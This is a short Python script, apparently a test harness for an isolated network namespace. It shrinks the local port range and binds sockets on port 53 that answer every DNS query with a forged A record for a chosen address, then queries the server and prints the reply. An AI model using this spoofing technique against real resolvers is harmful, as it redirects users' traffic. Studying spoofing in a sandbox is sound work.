# Root of a network of its own, in which it is the machine's name server, on the loopback: asks it for a name, and prints what
# was learned of that. Nobody seems to listen there, for its sockets hear one port each, and the network has few.
import socket, struct, sys, threading, time
server, name, address = sys.argv[1:4]
import subprocess
subprocess.run(["ip", "link", "set", "lo", "up"], check=True)
with open("/proc/sys/net/ipv4/ip_local_port_range", "w") as ports:
    ports.write("40000 40003")


def lie(sock):
    while True:
        try:
            asked = sock.recv(4096)
        except ConnectionRefusedError:
            continue
        end = 12
        while asked[end]:
            end += asked[end] + 1
        question = asked[12:end + 5]
        head = asked[:2] + struct.pack(">HHHHH", 0x8180, 1, 1, 0, 0)
        record = b"\xc0\x0c" + struct.pack(">HHIH", 1, 1, 600, 4) + socket.inet_aton(address)
        sock.send(head + question + record)


for port in range(40000, 40004):
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    sock.bind((server, 53))
    sock.connect(("127.0.0.1", port))
    threading.Thread(target=lie, args=(sock,), daemon=True).start()

labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
question = struct.pack(">HHHHHH", 4711, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", 1, 1)
# Until the network is served.
for _ in range(600):
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(10)
    try:
        sock.bind(("127.0.0.1", 50000))
        sock.sendto(question, (server, 53))
        answer = sock.recv(4096)
        print("answer", answer[3] & 15, socket.inet_ntoa(answer[-4:]), flush=True)
        break
    except PermissionError:
        sock.close()
        time.sleep(0.1)
